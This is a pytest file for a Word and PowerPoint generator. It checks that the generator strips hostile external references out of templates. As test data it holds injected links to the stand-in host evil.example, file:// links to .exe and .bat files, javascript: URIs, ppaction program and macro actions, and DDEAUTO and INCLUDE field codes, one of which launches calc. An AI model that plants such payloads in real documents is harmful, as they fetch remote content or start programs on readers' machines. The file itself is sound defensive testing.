"""A hostile house style does not live on in what is made of it, whatever part it hides in."""

import io
import re
import zipfile
from functools import partial
from pathlib import Path

import pytest
from lxml import etree

from voortgang.content.markdown.parse import parse
from voortgang.nota.docx.template.read import WordTemplate
from voortgang.nota.docx.write import make_docx
from voortgang.nota.properties import Properties
from voortgang.office.outside import MOST_SAID, Cut, cut_off, findings_of
from voortgang.presentatie.plan.prepare import prepare
from voortgang.presentatie.plan.task import Settings
from voortgang.presentatie.pptx.make import make_deck
from voortgang.source import Template

TEMPLATES = Path(__file__).parents[2] / "templates"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
SPACES = (
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
EVIL = "evil.example"
MASTER, LAYOUT = "ppt/slideMasters/slideMaster1.xml", "ppt/slideLayouts/slideLayout4.xml"
THEME, PROPS = "ppt/theme/theme1.xml", "ppt/presProps.xml"
NAMED = '<p:nvSpPr><p:cNvPr id="99" name="x">%s</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
FORM = '<a:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/></a:xfrm><a:prstGeom prst="rect"/>'
SHAPE = f"<p:sp>{NAMED}<p:spPr>{FORM}%s</p:spPr></p:sp>"
PICTURE = (
    '<p:pic><p:nvPicPr><p:cNvPr id="99" name="x"/><p:cNvPicPr/><p:nvPr>%s</p:nvPr></p:nvPicPr>'
    f"<p:blipFill><a:blip %s/></p:blipFill><p:spPr>{FORM}</p:spPr></p:pic>"
)
CLICK = '<a:hlinkClick r:id="%s" action="%s"/>'
OLE = (
    '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="99" name="x"/><p:cNvGraphicFramePr/><p:nvPr/>'
    '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/></p:xfrm><a:graphic>'
    '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
    '<p:oleObj r:id="rIdE" progId="Excel"><p:link/></p:oleObj></a:graphicData></a:graphic>'
    "</p:graphicFrame>"
)
# What is put at the end of the shapes of a master or layout, and what it asks for.
DECK = {
    "picture": (MASTER, PICTURE % ("", 'r:link="rIdE"'), "image", f"http://{EVIL}/m.png"),
    "picture embedded": (LAYOUT, PICTURE % ("", 'r:embed="rIdE"'), "image", f"file:////{EVIL}/m"),
    "fill": (LAYOUT, SHAPE % ("", '<a:blipFill><a:blip r:link="rIdE"/></a:blipFill>'), "image",
             f"\\\\{EVIL}\\m.png"),
    "link to a program": (MASTER, SHAPE % (CLICK % ("rIdE", ""), ""), "hyperlink",
                          f"file:///C:/{EVIL}.exe"),
    "link to a file": (LAYOUT, SHAPE % (CLICK % ("rIdE", "ppaction://hlinkfile"), ""),
                       "hyperlink", f"../{EVIL}.bat"),
    "script": (LAYOUT, SHAPE % (CLICK % ("rIdE", ""), ""), "hyperlink", f"javascript:{EVIL}"),
    "video": (LAYOUT, PICTURE % ('<a:videoFile r:link="rIdE"/>', ""), "video", f"http://{EVIL}/v"),
    "ole": (LAYOUT, OLE, "oleObject", f"http://{EVIL}/o.xls"),
}  # fmt: skip
ACTIONS = ["ppaction://program", "ppaction://macro?name=x", "PPACTION://Program", "ppaction://ole"]


def parts_of(name):
    with zipfile.ZipFile(TEMPLATES / name) as archive:
        return {part: archive.read(part) for part in archive.namelist()}


def zipped(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def related(parts, part, kind, target, rid="rIdE"):
    """Let a part relate to what lies elsewhere, or to another part: `in:` and its name."""
    folder, _, file = part.rpartition("/")
    name = f"{folder}/_rels/{file}.rels"
    old = parts.get(name, f'<Relationships xmlns="{RELS}"></Relationships>'.encode())
    mode = "" if target.startswith("in:") else ' TargetMode="External"'
    where = target.removeprefix("in:")
    new = f'<Relationship Id="{rid}" Type="{KIND}{kind}" Target="{where}"{mode}/>'
    parts[name] = old.replace(b"</Relationships>", f"{new}</Relationships>".encode())


def put(parts, part, before, xml):
    """Put elements ahead of an end tag, with their own names of spaces."""
    marked = re.sub(r"<([a-z]+:\w+)", rf"<\1 {SPACES}", xml, count=1)
    at = parts[part].rindex(f"</{before}>".encode())
    parts[part] = parts[part][:at] + marked.encode() + parts[part][at:]


def template(content, name="presentatie.pptx"):
    return Template(name, f"templates/{name}", True, partial(bytes, content))  # noqa: FBT003 -- the workspace's own


def deck(parts):
    blocks, _ = parse("# T {.titelblad}\n\nx\n\n## D\n\n- een\n")
    return make_deck(prepare(blocks, {}, template(zipped(parts)), Settings("T")), None)


def nota(parts):
    blocks, _ = parse("# T\n\nx\n")
    properties = Properties("T", "s", "Gemeente Voorbeeldegem")
    return make_docx(blocks, {}, template(zipped(parts), "nota.docx"), properties)


def reaching(made):
    """List all that reaches out of what was made, and see that each part of it is well-formed."""
    found = []
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        assert len(set(archive.namelist())) == len(archive.namelist())
        for name in archive.namelist():
            part = archive.read(name)
            if name.endswith((".xml", ".rels", ".vml")):
                root = etree.fromstring(part)
                found += [r.get("Target") for r in root if r.get("TargetMode") == "External"]
            found += [f"{name} names it"] * (EVIL.encode() in part)
            found += re.findall(rb"(?i)ppaction://(?!hlinksldjump)\w+|DDE|INCLUDE\w+", part)
    return found


def said(made):
    return [found.message for found in made.findings if found.code == "VG110"]


@pytest.mark.slow
def test_what_a_deck_would_fetch_or_start_is_cut_and_said_once(tmp_path):
    from openxml_audit import validate_pptx

    parts = parts_of("presentatie.pptx")
    for n, (part, xml, relation, target) in enumerate(DECK.values(), 90):
        put(parts, part, "p:spTree", xml.replace("rIdE", f"rIdE{n}").replace('"99"', f'"{n}"'))
        related(parts, part, relation, target, f"rIdE{n}")
    made = deck(parts)
    assert reaching(made) == []
    told = [
        [target for *_, target in DECK.values() if f"({target})" in each] for each in said(made)
    ]
    assert sorted(told) == sorted([target] for *_, target in DECK.values())
    path = tmp_path / "made.pptx"
    path.write_bytes(made.content)
    assert list(validate_pptx(path).errors) == []


@pytest.mark.slow
def test_each_button_that_starts_something_is_cut():
    parts = parts_of("presentatie.pptx")
    for action in ACTIONS:
        put(parts, LAYOUT, "p:spTree", SHAPE % (CLICK % ("", action), ""))
    made = deck(parts)
    assert reaching(made) == []
    assert len(said(made)) == len(ACTIONS)


@pytest.mark.slow
def test_a_relation_of_any_part_is_cut_also_where_nothing_asks_for_it():
    parts = parts_of("presentatie.pptx")
    relations = (
        (THEME, "image"), (PROPS, "htmlPubSaveAs"), ("ppt/presentation.xml", "attachedTemplate"),
        ("ppt/viewProps.xml", "slide"), ("ppt/tableStyles.xml", "whatever"), (MASTER, "tags"),
        (LAYOUT, "slide"),
    )  # fmt: skip
    for part, kind in relations:
        related(parts, part, kind, f"http://{EVIL}/{part}")
    made = deck(parts)
    assert reaching(made) == []
    for part, _ in relations:
        assert len([each for each in said(made) if f"{EVIL}/{part}" in each]) == 1


@pytest.mark.slow
def test_a_part_that_only_another_names_is_looked_through_too():
    parts = parts_of("presentatie.pptx")
    vml = f'<xml {SPACES}><v:shape><v:imagedata src="http://{EVIL}/a.png"/></v:shape></xml>'
    parts["ppt/drawings/vml1.vml"] = vml.encode()
    related(parts, LAYOUT, "vmlDrawing", "in:../drawings/vml1.vml")
    related(parts, "ppt/drawings/vml1.vml", "image", f"http://{EVIL}/b.png")
    kind = "application/vnd.openxmlformats-officedocument.vmlDrawing"
    types = parts["[Content_Types].xml"].decode().removesuffix("</Types>")
    types += f'<Default Extension="vml" ContentType="{kind}"/></Types>'
    parts["[Content_Types].xml"] = types.encode()
    made = deck(parts)
    assert reaching(made) == []
    assert len(said(made)) == 2


@pytest.mark.parametrize(
    "picture",
    [
        b"GIF89a<\x00(\x00\x91\x00\x00", b"\xff\xd8\xff\xe1\x00<Exif\x00\x00MM",
        b"BM\x36<\x00\x00\x00\x00", b"\xff\xd8\xff\xe1<aExif\x00\x00MM",
    ],
    ids=["a gif 60 wide", "a photograph", "a bitmap", "a larger photograph"],
)  # fmt: skip
def test_a_picture_with_the_sign_of_xml_in_its_head_stays_as_it_is(picture):
    assert cut_off({"ppt/media/beeld1.bin": picture}) == ({}, ())


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be"])
def test_a_drawing_that_is_not_quite_xml_is_looked_through_as_well(encoding):
    drawing = f'\n\n        <xml><br><v:imagedata {SPACES} src="http://{EVIL}/a.png"/></xml>'
    changed, _ = cut_off({"ppt/drawings/vml1.vml": drawing.encode(encoding)})
    assert EVIL.encode() not in changed["ppt/drawings/vml1.vml"]


def test_what_follows_on_an_object_that_goes_is_looked_at_too():
    gone = '<w:object><o:OLEObject Type="Link"/><v:shape/></w:object>'
    drawing = f'<xml {SPACES}>{gone}<v:imagedata src="http://{EVIL}/a.png"/></xml>'
    changed, cuts = cut_off({"word/drawing.vml": drawing.encode()})
    assert EVIL.encode() not in changed["word/drawing.vml"]
    assert len(cuts) == 2


@pytest.mark.slow
def test_a_picture_of_the_theme_makes_way_for_no_fill():
    parts = parts_of("presentatie.pptx")
    fill = f'<a:blipFill {SPACES}><a:blip r:link="rIdE"/></a:blipFill></a:bgFillStyleLst>'.encode()
    parts[THEME] = parts[THEME].replace(b"</a:bgFillStyleLst>", fill)
    related(parts, THEME, "image", f"http://{EVIL}/x")
    made = deck(parts)
    assert reaching(made) == []
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        assert b"noFill" in archive.read(THEME)


@pytest.mark.slow
def test_a_link_to_click_stays_and_is_no_news():
    parts = parts_of("presentatie.pptx")
    addresses = ["https://voorbeeldegem.be", "HTTP://x.example", "mailto:a@b.example"]
    for number, address in enumerate(addresses):
        put(parts, LAYOUT, "p:spTree", SHAPE % (CLICK % (f"rIdE{number}", ""), ""))
        related(parts, LAYOUT, "hyperlink", address, f"rIdE{number}")
    made = deck(parts)
    assert sorted(reaching(made)) == sorted(addresses)
    assert said(made) == []


@pytest.mark.slow
def test_example_slides_are_left_out_with_all_that_they_fetch_and_are_no_news():
    parts = parts_of("presentatie.pptx")
    root = f"<p:sld {SPACES}><p:cSld><p:spTree/></p:cSld></p:sld>"
    parts["ppt/slides/slide9.xml"] = root.encode()
    related(parts, "ppt/slides/slide9.xml", "image", f"http://{EVIL}/x")
    related(parts, "ppt/presentation.xml", "slide", "in:slides/slide9.xml", "rIdS")
    related(parts, LAYOUT, "slide", "in:../slides/slide9.xml", "rIdS")
    put(parts, LAYOUT, "p:spTree", SHAPE % (CLICK % ("rIdS", "ppaction://hlinksldjump"), ""))
    made = deck(parts)
    assert (reaching(made), said(made)) == ([], [])


WORDS = (
    'DDEAUTO c:\\\\x "/k calc"', " dde x ", 'INCLUDEPICTURE "x" \\d', "INCLUDETEXT x",
    "LINK Excel.Sheet.8 x", "DATABASE x", "PRINT x", "MACROBUTTON x y",
    'HYPERLINK "file:///c:/x"', "IMPORTEER x", "RD x",
)  # fmt: skip
HARMLESS = (
    "PAGE", "NUMPAGES \\* MERGEFORMAT", "STYLEREF  'Kop 1'", "=1+1",
    'HYPERLINK "https://x.example/"', 'HYPERLINK \\l "_Kop1"', "",
)  # fmt: skip


def run(xml):
    return f"<w:r>{xml}</w:r>"


def field(*code, shown="1"):
    mark = '<w:fldChar w:fldCharType="{}"/>'.format
    words = [c if c.startswith("<") else run(f"<w:instrText>{c}</w:instrText>") for c in code]
    return "".join([run(mark("begin")), *words, run(mark("separate")),
                    run(f"<w:t>{shown}</w:t>"), run(mark("end"))])  # fmt: skip


def simple(code):
    code = code.replace('"', "&quot;")
    return f'<w:fldSimple w:instr="{code}">{run("<w:t>1</w:t>")}</w:fldSimple>'


def with_header(*lines):
    parts = parts_of("nota.docx")
    for inside in lines:
        put(parts, "word/header1.xml", "w:hdr", f"<w:p>{inside}</w:p>")
    return parts


def codes_in(made, line=-1):
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        line = etree.fromstring(archive.read("word/header1.xml"))[line]
    codes = [e.text or "" for e in line.iter("{*}instrText")]
    codes += [e.get(e.tag.replace("fldSimple", "instr")) for e in line.iter("{*}fldSimple")]
    shown = "".join(e.text for e in line.iter("{*}t"))
    return [c.strip() for c in codes if c.strip()], shown, len([*line.iter("{*}fldChar")])


@pytest.mark.parametrize("write", [simple, field], ids=["simple", "marks"])
def test_a_field_that_fetches_or_starts_something_leaves_only_what_it_shows(write):
    made = nota(with_header(*map(write, WORDS)))
    for line, code in enumerate(reversed(WORDS), 1):
        assert codes_in(made, -line) == ([], "1", 0), code
    assert len(said(made)) == len(WORDS)


@pytest.mark.parametrize("write", [simple, field], ids=["simple", "marks"])
def test_a_harmless_field_stays(write):
    made = nota(with_header(*map(write, HARMLESS)))
    for line, code in enumerate(reversed(HARMLESS), 1):
        codes, shown, _ = codes_in(made, -line)
        assert (codes, shown) == ([code] if code else [], "1")
    assert said(made) == []


@pytest.mark.parametrize(
    "code",
    [
        ("DDE", "AUTO x"),
        (field("QUOTE 68 68 69"), "AUTO x"),
        ("D", field("QUOTE 68"), "E x"),
        (field("QUOTE 68 68 69"), " PAGE"),
        ("PAGE", field("QUOTE 68")),
        ('HYPERLINK "', field("QUOTE 102"), 'https://x"'),
        (field("PAGE"),),
    ],
)
def test_a_word_that_fields_spell_together_is_never_trusted(code):
    made = nota(with_header(field(*code)))
    assert codes_in(made)[0] == []
    assert said(made)


def test_a_field_within_what_another_shows_is_judged_by_itself():
    inner = field("DDE x", shown="2")
    made = nota(
        with_header(field("PAGE", shown="").replace("<w:t></w:t>", "</w:r>" + inner + "<w:r>"))
    )
    assert codes_in(made)[:2] == (["PAGE"], "2")


def test_a_field_without_an_end_is_a_field():
    open_ = run('<w:fldChar w:fldCharType="begin"/>') + run("<w:instrText>DDE x</w:instrText>")
    assert codes_in(nota(with_header(open_)))[0] == []


@pytest.mark.parametrize(
    ("part", "kind", "target", "count"),
    [
        ("word/settings.xml", "attachedTemplate", f"http://{EVIL}/x.dotm", 1),
        ("word/settings.xml", "attachedTemplate", "file:///C:/Users/x/Normal.dotm", 0),
        ("word/styles.xml", "image", f"http://{EVIL}/x", 1),
        ("word/theme.xml", "image", f"http://{EVIL}/x", 1),
        ("word/fontTable.xml", "font", f"http://{EVIL}/x", 1),
        ("word/footer1.xml", "oleObject", f"file:////{EVIL}/x", 1),
    ],
)
def test_a_relation_of_any_part_of_a_nota_is_cut(part, kind, target, count):
    parts = parts_of("nota.docx")
    related(parts, part, kind, target)
    made = nota(parts)
    assert reaching(made) == []
    assert len(said(made)) == count


@pytest.mark.parametrize(
    "inside",
    [
        '<w:pict><v:shape><v:imagedata r:id="rIdE"/></v:shape></w:pict>',
        '<w:object><o:OLEObject Type="Link" r:id="rIdE"/></w:object>',
        f'<w:pict><v:rect><v:fill src="http://{EVIL}/f.png" r:id="rIdE"/></v:rect></w:pict>',
        '<w:hyperlink r:id="rIdE"><w:r><w:t>klik</w:t></w:r></w:hyperlink>',
        '<w:altChunk r:id="rIdE"/>',
    ],
)
def test_what_asks_for_it_goes_along(inside):
    parts = with_header(run(inside) if "hyperlink" not in inside else inside)
    related(parts, "word/header1.xml", "image", f"http://{EVIL}/x")
    made = nota(parts)
    assert reaching(made) == []
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        header = archive.read("word/header1.xml")
    assert b"rIdE" not in header
    assert (b"klik" in header) == ("klik" in inside)


def test_the_example_text_of_a_word_template_is_no_news():
    parts = parts_of("nota.docx")
    put(parts, "word/document.xml", "w:p", field("DDEAUTO x"))
    related(parts, "word/document.xml", "image", f"http://{EVIL}/x")
    assert said(nota(parts)) == []


def test_a_flood_is_said_in_bounds():
    cuts = [Cut("een beeld", str(n)) for n in range(1_000)]
    told = findings_of(cuts, "templates/nota.docx")
    assert len(told) == MOST_SAID + 1
    assert "nog 980" in told[-1].message


@pytest.mark.slow
def test_the_own_templates_reach_nothing():
    assert WordTemplate((TEMPLATES / "nota.docx").read_bytes()).findings == []
    assert said(deck(parts_of("presentatie.pptx"))) == []


def test_a_drawing_of_before_2007_that_asks_for_such_a_relation_loses_it_as_well():
    drawing = f'<xml {SPACES}><v:shape><v:imagedata o:relid="rId9"/></v:shape></xml>'
    changed, _ = cut_off({"ppt/drawings/vml1.vml": drawing.encode()})
    assert b"rId9" not in changed["ppt/drawings/vml1.vml"]


def test_what_asks_for_a_relation_that_never_was_is_left_out_and_is_no_news():
    picture = PICTURE % ("", 'r:embed="rId9"')
    jump = CLICK % ("", "ppaction://hlinkshowjump?jump=nextslide")
    layout = f"<p:sldLayout {SPACES}>{picture}{SHAPE % (jump, '')}</p:sldLayout>".encode()
    changed, cuts = cut_off({"ppt/slideLayouts/slideLayout1.xml": layout})
    (part,) = changed.values()
    assert b"p:pic" not in part
    assert b"nextslide" in part
    assert cuts == ()
